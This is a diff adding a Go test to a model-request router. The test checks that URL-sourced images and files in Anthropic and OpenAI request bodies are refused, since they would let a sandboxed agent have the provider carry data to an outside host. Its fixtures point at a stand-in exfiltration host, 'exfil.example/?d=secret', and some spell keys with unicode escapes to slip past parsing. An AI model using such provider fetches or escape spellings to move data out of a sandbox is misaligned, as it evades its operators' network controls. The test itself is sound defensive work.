@@ -138,3 +138,50 @@ func TestChatRefusesSeveralChoices(t *testing.T) {
 		}
 	}
 }
+
+// TestParseRequestRefusesProviderFetches: a content block whose source
+// is a URL has the provider fetch it (an Anthropic image or document
+// with a "url" source, in a Messages call or a token count, nested in a
+// tool result too; an OpenAI input_image or Chat image_url naming an
+// http URL, an input_file naming a file_url): through it an agent in a
+// sandbox without a network would have the provider carry its data to
+// any host, in the URL. Refused, whatever escapes spell the members;
+// the same content inline (base64, a data: URL) passes.
+func TestParseRequestRefusesProviderFetches(t *testing.T) {
+	a, r, c := modelroute.AnthropicMessages, modelroute.OpenAIResponses, modelroute.OpenAIChat
+	for _, tc := range []struct {
+		d          modelroute.Dialect
+		path, body string
+	}{
+		{a, a.Path(), `{"model":"m","messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://exfil.example/?d=secret"}}]}]}`},
+		{a, a.CountTokensPath(), `{"model":"m","messages":[{"role":"user","content":[{"type":"document","source":{"type":"url","url":"https://exfil.example/x.pdf"}}]}]}`},
+		{a, a.Path(), `{"model":"m","messages":[{"role":"user","content":[{"type":"tool_result","tool_use_id":"t","content":[{"type":"image","source":{"type":"url","url":"https://exfil.example/x"}}]}]}]}`},
+		{a, a.Path(), `{"model":"m","messages":[{"role":"user","content":[{"type":"image","sour\u0063e":{"type":"\u0075rl","\u0075rl":"https://exfil.example/x"}}]}]}`},
+		{a, a.Path(), `{"model":"m","messages":[{"role":"user","content":[{"type":"image","source":{"type":"ur\u006C","ur\u006C":"https://exfil.example/x"}}]}]}`},
+		{a, a.Path(), `{"model":"m","system":[{"type":"text","text":"x"}],"messages":[{"role":"user","content":[{"type":"document","source":{"url" : "https://exfil.example/x", "type" : "url" }}]}]}`},
+		{r, r.Path(), `{"model":"m","input":[{"role":"user","content":[{"type":"input_image","image_url":"https://exfil.example/x.png"}]}]}`},
+		{r, r.Path(), `{"model":"m","input":[{"role":"user","content":[{"type":"input_file","file_url":"https://exfil.example/x.pdf"}]}]}`},
+		{r, r.Path(), `{"model":"m","input":[{"type":"function_call_output","call_id":"c","output":[{"type":"input_image","image_url":"http://exfil.example/x"}]}]}`},
+		{c, c.Path(), `{"model":"m","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"https://exfil.example/x.png"}}]}]}`},
+		{c, c.Path(), `{"model":"m","messages":[{"role":"user","content":[{"type":"file","file":{"file_url":"https://exfil.example/x.pdf"}}]}]}`},
+		{r, r.Path(), `{"model":"m","input":[{"role":"user","content":[{"type":"input_image","im\u0061ge_url":"https://exfil.example/x.png"}]}]}`},
+		{r, r.Path(), `{"model":"m","input":[{"role":"user","content":[{"type":"input_file","file\u005furl":"https://exfil.example/x.pdf"}]}]}`},
+	} {
+		if _, err := modelroute.ParseRequest(tc.d, "POST", tc.path, "", []byte(tc.body)); !errors.Is(err, modelroute.CodeModelToolRefused) {
+			t.Errorf("%s %s: %v, want %s", tc.d, tc.body, err, modelroute.CodeModelToolRefused)
+		}
+	}
+	for _, tc := range []struct {
+		d          modelroute.Dialect
+		path, body string
+	}{
+		{a, a.Path(), `{"model":"m","messages":[{"role":"user","content":[{"type":"image","source":{"type":"base64","media_type":"image/png","data":"AAAA"}}]}],"tools":[{"name":"WebFetch","input_schema":{"type":"object","properties":{"url":{"type":"string","format":"uri"},"source":{"type":"string"}}}}]}`},
+		{a, a.Path(), `{"model":"m","messages":[{"role":"assistant","content":[{"type":"tool_use","id":"t","name":"WebFetch","input":{"url":"https://example.com"}}]}]}`},
+		{r, r.Path(), `{"model":"m","input":[{"role":"user","content":[{"type":"input_image","image_url":"data:image/png;base64,AAAA"}]}]}`},
+		{c, c.Path(), `{"model":"m","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"DATA:image/png;base64,AAAA"}}]}]}`},
+	} {
+		if _, err := modelroute.ParseRequest(tc.d, "POST", tc.path, "", []byte(tc.body)); err != nil {
+			t.Errorf("%s %s: %v, want accepted", tc.d, tc.body, err)
+		}
+	}
+}
